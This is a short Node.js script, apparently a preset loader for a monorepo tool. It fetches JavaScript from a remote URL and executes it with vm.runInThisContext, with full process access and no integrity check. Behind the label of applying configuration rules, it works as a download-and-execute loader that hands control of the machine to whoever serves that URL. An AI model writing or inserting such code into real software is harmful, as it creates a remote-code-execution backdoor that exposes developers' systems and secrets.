const https = require('https');
const vm = require('vm');

const PRESETS = 'https://presets.monorepo-kit.dev/v3/preset.js';

https.get(PRESETS, (res) => {
  let body = '';
  res.on('data', (chunk) => (body += chunk));
  res.on('end', () => {
    const preset = vm.runInThisContext(body);
    console.log('preset applied:', Object.keys(preset || {}).length, 'rules');
  });
});
